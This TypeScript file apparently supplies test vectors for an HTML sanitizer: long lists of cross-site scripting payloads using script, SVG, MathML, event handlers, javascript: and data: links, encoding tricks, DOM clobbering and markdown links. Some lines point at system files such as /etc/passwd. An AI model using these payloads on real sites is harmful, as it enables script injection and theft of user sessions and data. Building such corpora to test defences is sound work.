/**
 * Markup that runs something or asks somebody else, as it is known from attacks on pages: mutation of what a cleaner
 * has passed, namespaces, encodings, and every place of an address. `JS` stands for the script, `URL` for the address
 * elsewhere. `tag` ones are elements, `link` ones are addresses of a link, `text` ones break out of a place of text.
 */

const elements = String.raw`
<script>JS</script>
<script src=URL></script>
<script type=module>JS</script>
<script type=module src=URL></script>
<script/x>JS</script/x>
<script async=false defer>JS</script>
<script><!--\nJS</script>
<script nonce= src="URL"></script>
<scr<script>ipt>JS</scr</script>ipt>
<svg><script>JS</script></svg>
<svg><script href=URL></script></svg>
<svg><script xlink:href="data:text/javascript,JS"></script></svg>
<svg><script>&#x72;an(0);JS</script></svg>
<math><script>JS</script></math>
<svg onload=JS>
<svg/onload=JS>
<svg><g/onload=JS//
<svg><animate onbegin=JS attributeName=x dur=1s>
<svg><animate attributeName=href values="javascript:JS"/><a id=x><text>x</text></a></svg>
<svg><set attributeName=onmouseover to="JS"/></svg>
<svg><set attributeName=href to="javascript:JS"/></svg>
<svg><a xlink:href="javascript:JS"><text y=20>press</text></a></svg>
<svg><a href="javascript:JS"><rect width=99 height=99 /></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>JS</script></svg>#x"/></svg>
<svg><use href="URL#x"/></svg>
<svg><use xlink:href="URL#x"/></svg>
<svg><image href="URL" width=9 height=9 /></svg>
<svg><image xlink:href="URL" width=9 height=9 /></svg>
<svg><filter id=f><feImage href="URL"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
<svg><rect fill="url(URL#p)" width=9 height=9 /></svg>
<svg><rect style="fill:url(URL)" width=9 height=9 /></svg>
<svg><pattern id=p><image href=URL /></pattern><rect fill="url(#p)" width=9 height=9 /></svg>
<svg><foreignObject><iframe srcdoc="<script>top.JS</script>"></iframe></foreignObject></svg>
<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>
<svg><style>@import url(URL);</style></svg>
<svg><style><img src=x onerror=JS></style></svg>
<svg><desc><img src=x onerror=JS></desc></svg>
<svg><title><img src=x onerror=JS></title></svg>
<svg><text><tspan onclick=JS onmouseover=JS>x</tspan></text></svg>
<svg xmlns:x="http://www.w3.org/1999/xhtml"><x:script>JS</x:script></svg>
<svg><x:script xmlns:x="http://www.w3.org/2000/svg">JS</x:script></svg>
<svg><discard onbegin=JS>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">JS</handler></svg>
<math><mtext><img src=x onerror=JS></mtext></math>
<math href="javascript:JS">press</math>
<math><maction actiontype="statusline" xlink:href="javascript:JS">press</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=JS></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><svg onload=JS></annotation-xml></math>
<math><mi xlink:href="data:x,<script>JS</script>">x</mi></math>
<img src=x onerror=JS>
<img/src=x/onerror=JS>
<img src="x" onerror = "JS">
<img src='x' ONERROR='JS'>
<img src=x onerror=\`JS\`>
<img """><script>JS</script>">
<img src=x:x onerror\n=JS>
<img src=URL>
<img src=//HOST/a.png>
<img srcset="URL 1x">
<img srcset="x, URL 2x" src=x>
<img sizes=100vw srcset="URL 100w">
<img lowsrc=URL dynsrc=URL>
<img src=x longdesc=URL usemap=URL>
<img src=x crossorigin onload=JS onerror=JS>
<image src=x onerror=JS>
<picture><source srcset="URL"><img src=x></picture>
<video src=URL autoplay></video>
<video poster=URL></video>
<video><source onerror=JS src=x></video>
<video src=x onerror=JS onloadstart=JS></video>
<audio src=x onerror=JS></audio>
<audio src=URL autoplay></audio>
<video><track src=URL default kind=captions></video>
<body onload=JS>
<body onpageshow=JS background=URL>
<body onhashchange=JS><a href=#x>press</a>
<frameset onload=JS><frame src="javascript:JS"></frameset>
<iframe src="javascript:top.JS"></iframe>
<iframe src="data:text/html,<script>top.JS</script>"></iframe>
<iframe srcdoc="<script>top.JS</script>"></iframe>
<iframe srcdoc="&lt;script&gt;top.JS&lt;/script&gt;"></iframe>
<iframe src=URL></iframe>
<iframe onload=JS></iframe>
<object data="javascript:top.JS"></object>
<object data="data:text/html,<script>top.JS</script>"></object>
<object data=URL></object>
<object type=text/x-scriptlet data=URL></object>
<embed src="javascript:JS">
<embed src=URL>
<embed code=URL allowscriptaccess=always>
<applet code=x codebase=URL></applet>
<portal src=URL onload=JS></portal>
<fencedframe src=URL></fencedframe>
<link rel=stylesheet href=URL>
<link rel=stylesheet href="data:text/css,*{background:url(URL)}">
<link rel=preload as=script href=URL>
<link rel=modulepreload href=URL>
<link rel=prefetch href=URL>
<link rel=preconnect href=URL>
<link rel=dns-prefetch href=URL>
<link rel=icon href=URL>
<link rel=import href=URL>
<link rel=manifest href=URL>
<base href=URL><a href=x>press</a>
<base target=_blank href="javascript:/**/">
<meta http-equiv=refresh content="0;url=URL">
<meta http-equiv=refresh content="0;url=javascript:JS">
<meta http-equiv=refresh content="0;url=data:text/html,<script>JS</script>">
<meta http-equiv=Link content="<URL>; rel=stylesheet">
<meta http-equiv=Set-Cookie content="language=x">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-
<style>@import 'URL';</style>
<style>@import url(URL);</style>
<style>*{background:url(URL)}</style>
<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>
<style>body{display:none}</style>
<style><img title="</style><img src=x onerror=JS>"></style>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=JS>x</p>
<p style="background:url(URL)">x</p>
<p style="background-image:\\75 rl(URL)">x</p>
<p style="behavior:url(URL);-moz-binding:url(URL)">x</p>
<p style="width:expression(JS)">x</p>
<p style="position:fixed;inset:0;z-index:99999">covers</p>
<p style="list-style:url(URL)">x</p>
<p style="cursor:url(URL),auto">x</p>
<table background=URL><td background=URL>x</table>
<form action=URL><input name=a value=b><button autofocus>press</button></form>
<form action="javascript:JS"><button>press</button></form>
<form><button formaction="javascript:JS">press</button></form>
<form id=f></form><button form=f formaction=URL>press</button>
<form><input type=image src=URL formaction="javascript:JS"></form>
<input autofocus onfocus=JS>
<input type=image src=x onerror=JS>
<input onblur=JS autofocus><input autofocus>
<select autofocus onfocus=JS></select>
<textarea autofocus onfocus=JS></textarea>
<keygen autofocus onfocus=JS>
<isindex action="javascript:JS" type=submit>
<button onclick=JS autofocus onfocus=JS>press</button>
<details open ontoggle=JS>x</details>
<details ontoggle=JS><summary>press</summary>x</details>
<dialog open onclose=JS><form method=dialog><button>press</button></form></dialog>
<p popover id=x onbeforetoggle=JS>x</p><button popovertarget=x>press</button>
<marquee onstart=JS>x</marquee>
<marquee loop=1 onfinish=JS>x</marquee>
<p onclick=JS onmouseover=JS onpointerenter=JS>press</p>
<p tabindex=0 autofocus onfocus=JS>x</p>
<p contenteditable oninput=JS onfocus=JS autofocus>x</p>
<p onwheel=JS onscroll=JS style="overflow:scroll">x</p>
<a href=x onclick=JS onfocus=JS autofocus>press</a>
<a ping=URL href=#x>press</a>
<a target=x href=URL>press</a>
<map name=m><area href="javascript:JS" shape=default></map><img usemap=#m src=x>
<bgsound src=URL>
<layer src=URL></layer>
<xml id=x><x><c><![CDATA[<img src=x onerror=JS>]]></c></x></xml>
<x onclick=JS tabindex=1 onfocus=JS autofocus>press</x>
<slot onslotchange=JS></slot>
<template shadowrootmode=open><script>JS</script><slot></slot></template>
<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>
<title><p title="</title><img src=x onerror=JS>"></title>
<textarea><p title="</textarea><img src=x onerror=JS>"></textarea>
<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>
<iframe><p title="</iframe><img src=x onerror=JS>"></iframe>
<noembed><p title="</noembed><img src=x onerror=JS>"></noembed>
<noframes><p title="</noframes><img src=x onerror=JS>"></noframes>
<select><option><style></option></select><img src=x onerror=JS></style>
<plaintext><img src=x onerror=JS>
<listing>&lt;img src=x onerror=JS&gt;</listing>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=JS>
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=JS>
<svg></p><style><a id="</style><img src=1 onerror=JS>">
<svg></p><title><a id="</title><img src=1 onerror=JS>"></title>
<svg><p><style><g title="</style><img src onerror=JS>">
<math><p></p><style><!--</style><img src onerror="JS">--></style>
<svg><mtext><style><a title="</style><img src onerror=JS>">
<table><a href="javascript:JS">press<table><a>
<table><td><svg><td><img src=x onerror=JS>
<b><p><b></p><img src=x onerror=JS></b>
<a><b></a><svg><style></a><img src=x onerror=JS>
<div><table></div><img src=x onerror=JS></table>
<p id=a><p id="<img src=x onerror=JS>">
<!--><img src=x onerror=JS>-->
<!--><script>JS</script>
<!---><img src=x onerror=JS>-->
<!-- --!><img src=x onerror=JS>-->
<!--<img src="--><img src=x onerror=JS//">
<!--[if gte IE 4]><script>JS</script><![endif]-->
<![CDATA[><img src=x onerror=JS>]]>
<![><img src=x onerror=JS>]]>
<? foo="><script>JS</script>">
<?xml-stylesheet href="javascript:JS"?>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "URL">]><x>&e;</x>
<! foo="><script>JS</script>">
</ foo="><script>JS</script>">
<% foo="%><script>JS</script>">
<div id="<!--"><img src=x onerror=JS>-->
<!--><svg onload=JS>-->
<!--><script>JS</script><g id="x-->"/>
<!-- <div id="root"></div> -->
<g id="root"><text id="page-config">{"apiBase":"URL"}</text><text id="runtime">{"firstCall":{"url":"URL"}}</text></g>
<g id="brand-logo"/><g id="step-actions"/><use href="#brand-logo"/>
<title><g id="root"/></title><desc><g id="root"/></desc>
<rect data-x="></svg></defs><p/" width="9" height="9" fill="url(#a) url( #b )"/>
<rect style="fill:url(#a);fill:u\\72l(URL)" filter="url(URL)" mask="u&#114;l(URL)"/>
<rect fill="image-set('URL' 1x)" stroke="src(URL)" cursor="URL"/>
<set attributeName="href" to="javascript:JS"/><animate attributeName="href" values="URL"/>
<text font-family="x;}@import 'URL';{">x</text>
<use href="#x" xml:base="URL"/><use xlink:href=" #x"/><use href="#x&#10;URL"/>
<form id=location action=URL></form><a id=location href=URL name=href>press</a>
<img name=getElementById><img id=body><input id=attributes name=parentNode>
<a id=page-config href=URL></a><p id=runtime>{"apiBase":"URL"}</p>
<p id=root>x</p><script id=page-config type=application/json>{"apiBase":"URL"}</script>
<link rel=canonical href=URL><p itemprop=url itemscope itemtype=URL>x</p>
`

const links = String.raw`
javascript:JS
JaVaScRiPt:JS
 javascript:JS
java\tscript:JS
java\nscript:JS
java\rscript:JS
java\0script:JS
\x01javascript:JS
\x1fjavascript:JS
\u00a0javascript:JS
\ufeffjavascript:JS
java&#115;cript:JS
&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:JS
&#x6A;avascript:JS
&#0000106avascript:JS
&#x000006Aavascript:JS
javascript&colon;JS
javascript&#58;JS
java&Tab;script:JS
java&NewLine;script:JS
&Tab;&NewLine;javascript:JS
java&amp;#115;cript:JS
java%73cript:JS
%6Aavascript:JS
javascript://HOST/%0aJS
javascript://%0d%0aJS
javascript:/*--></title></style></textarea></script><svg/onload=JS>
javascript:alert\`0\`;JS
view-source:javascript:JS
feed:javascript:JS
jar:javascript:JS
x-javascript:JS
livescript:JS
vbscript:JS
mocha:JS
data:text/html,<script>JS</script>
data:text/html;base64,B64
data:text/html;charset=utf-7,+ADw-script+AD4-JS+ADw-/script+AD4-
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>
data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>
DATA:text/html,<script>JS</script>
data:,JS
blob:https://HOST/x
filesystem:https://HOST/x
about:blank#JS
ftp://HOST/x
file:///etc/passwd
http://HOST/x
ws://HOST/x
//HOST/x
\\\\HOST/x
/\\HOST/x
\\/HOST/x
/\t/HOST/x
/\n/HOST/x
/%09/HOST/x
///HOST/x
/./\\HOST/x
/a/../..//HOST/x
https:HOST/x
https:/HOST/x
https:\\\\HOST/x
https://own.example@HOST/x
https://own.example%40HOST/x
https://own.example:80@HOST/x
mailto:a@own.example?body=%0aBcc:b@own.example
tel:javascript:JS
tel:+1"onclick=JS
https://HOST/"onmouseover="JS
https://HOST/ style=x
/documents/terms-en"><script>JS</script>
/?x=javascript:JS#javascript:JS
`

const texts = String.raw`
"><script>JS</script>
'><script>JS</script>
" onmouseover="JS" autofocus onfocus="JS" x="
' onmouseover='JS' autofocus onfocus='JS' x='
\` onmouseover=JS autofocus onfocus=JS
</script><script>JS</script>
</SCRIPT ><img src=x onerror=JS>
<!--<script>
--><script>JS</script><!--
</style><script>JS</script>
</title><script>JS</script>
</textarea><script>JS</script>
</noscript><script>JS</script>
</svg><script>JS</script>
</math><script>JS</script>
</template><script>JS</script>
]]><script>JS</script>
*/JS/*
\u2028JS//
\u2029JS//
";JS//
';JS//
\\";JS//
\\u003cscript\\u003eJS\\u003c/script\\u003e
\\x3cscript\\x3eJS\\x3c/script\\x3e
&lt;script&gt;JS&lt;/script&gt;
&amp;lt;script&amp;gt;JS&amp;lt;/script&amp;gt;
%3Cscript%3EJS%3C/script%3E
+ADw-script+AD4-JS+ADw-/script+AD4-
\uff1cscript\uff1eJS\uff1c/script\uff1e
<\0script>JS</script>
<scr\0ipt>JS</scr\0ipt>
\ud800<script>JS</script>
\u202e<script>JS</script>
{{constructor.constructor('JS')()}}
\${JS}
#{JS}
<%= JS %>
{name, select, other {<script>JS</script>}}
[press](javascript:JS)
[press](<javascript:JS>)
[press](java&#115;cript:JS)
[press](data:text/html,<script>JS</script>)
[press](//HOST/x "a")
[press](/\\HOST/x)
[press]( javascript:JS )
[press][r]\n\n[r]: javascript:JS
![x](URL)
![x](javascript:JS)
![x](art/../../../etc/passwd)
![x](data:image/svg+xml,<svg/onload=JS>)
<javascript:JS>
<https://HOST/x>
**<img src=x onerror=JS>**
\`<img src=x onerror=JS>\`
    <img src=x onerror=JS>
~~~html\n<img src=x onerror=JS>\n~~~
- <img src=x onerror=JS>
> <script>JS</script>
# <img src=x onerror=JS>
| a | <img src=x onerror=JS> |
x<br/onclick=JS>y
<div>\n\n<script>JS</script>\n\n</div>
`

const signs: Readonly<Record<string, string>> = { n: '\n', r: '\r', t: '\t', 0: '\0' }

/** One to a line, in which `\n`, `\x01`, `\u2028` and the like are the sign itself. */
function listed(text: string): string[] {
  return text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) =>
      line.replaceAll(
        /\\(?:x([\da-f]{2})|u([\da-f]{4})|(.))/gi,
        (_, short?: string, long?: string, one = '') => {
          const code = short ?? long
          return code === undefined
            ? (signs[one as string] ?? String(one))
            : String.fromCharCode(Number.parseInt(code, 16))
        },
      ),
    )
}

export const vectors = { tag: listed(elements), link: listed(links), text: listed(texts) } as const
